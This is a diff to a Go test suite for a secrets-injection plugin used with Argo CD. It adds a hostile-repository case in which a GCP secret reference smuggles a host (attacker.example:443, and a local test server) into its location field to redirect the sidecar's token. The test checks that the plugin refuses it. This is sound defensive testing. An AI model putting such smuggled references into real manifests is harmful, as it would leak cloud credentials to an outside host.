@@ -41,6 +41,9 @@ var attacks = []attack{
 	{"helmsub", "leaves the repository", false},
 	{"dotdot", "secret path", false},
 	{"dotdotann", "not a canonical secret path", false},
+	// A GCP location that would name the host the sidecar's token goes to, inside the
+	// project's own GCP prefix.
+	{"gcploc", "is not a GCP location name", false},
 	{"runaway", "deadline", true},
 }
 
@@ -84,6 +87,7 @@ func newHostileRepo(t *testing.T) hostileRepo {
 		"outside/sub/templates/cm.yaml":       "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: sub}\ndata: {x: OUTSIDE-CANARY}\n",
 		// another team's secret through "..", inline and through the annotation.
 		"repo/apps/dotdot/app.yaml":    "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\nstringData:\n  pw: <path:secret/data/team-a/../team-b/db#password>\n",
+		"repo/apps/gcploc/app.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: ref+gcpsm://projects/team-a-proj/locations/attacker.example:443/secrets/s#/k\n  b: <path:projects/team-a-proj/locations/" + strings.TrimPrefix(srv.URL, "http://") + "/secrets/s#k>\n",
 		"repo/apps/dotdotann/app.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\n  annotations: {avp.kubernetes.io/path: secret/data/team-a/../team-b/db}\nstringData:\n  pw: <password>\n",
 		// a template that never ends and grows without bound.
 		"repo/apps/runaway/Chart.yaml":          "apiVersion: v2\nname: runaway\nversion: 0.1.0\n",
@@ -167,7 +171,7 @@ func TestHostileRepository(t *testing.T) {
 	h := newHostileRepo(t)
 	secrets := hostileSecrets(t)
 	plugin := loadPlugin(t)
-	const policy = "team-a=secret/data/team-a/"
+	const policy, gcpPolicy = "team-a=secret/data/team-a/", "team-a=gcpsm:projects/team-a-proj"
 
 	t.Run("render", func(t *testing.T) {
 		for _, a := range attacks {
@@ -183,7 +187,7 @@ func TestHostileRepository(t *testing.T) {
 			t.Run(a.app, func(t *testing.T) {
 				t.Parallel()
 				env := argoEnvFor(a.app, secrets)
-				env["KEYWAY_ARGOCD_PROJECT_PATH"] = policy
+				env["KEYWAY_ARGOCD_PROJECT_PATH"] = policy + "," + gcpPolicy
 				env["KEYWAY_TIMEOUT"] = "4s"
 				r := runCmp(t, plugin.Spec.Generate.Command, filepath.Join(h.repo, "apps", a.app), env)
 				h.refused(t, a, r.err != nil, r.stdout, r.stderr)
@@ -249,7 +253,7 @@ func TestHostileRepository(t *testing.T) {
 		}
 	})
 	t.Run("argocd serve", func(t *testing.T) {
-		srv, pid := startKeywayServeWith(t, []string{"KEYWAY_SECRETS_FILE=" + secrets}, "--argocd-project-path", policy, "--timeout", "4s")
+		srv, pid := startKeywayServeWith(t, []string{"KEYWAY_SECRETS_FILE=" + secrets}, "--argocd-project-path", policy, "--argocd-project-path", gcpPolicy, "--timeout", "4s")
 		// A repository stream holding a link out is refused whole, at unpacking, before any
 		// application in it is looked at; the other attacks go in a repository without them.
 		clean := filepath.Join(filepath.Dir(h.repo), "clean")
